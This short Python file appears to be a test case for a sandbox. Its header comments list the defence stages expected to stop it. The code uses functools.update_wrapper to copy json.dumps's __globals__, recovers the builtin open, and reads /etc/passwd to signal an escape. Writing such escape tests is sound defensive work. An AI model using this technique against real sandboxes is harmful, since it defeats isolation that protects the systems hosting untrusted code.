# tries: update_wrapper copies the attributes that it is told
# class: reader
# stops: 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(space):
    print("REACHED")
    builtins = space["__builtins__"]
    return builtins["open"] if type(builtins) is dict else getattr(builtins, "open")


import functools
import json


class Sink:
    pass


sink = Sink()
functools.update_wrapper(sink, json.dumps, assigned=["__globals__"], updated=[])
use(dig(vars(sink)["__globals__"]))
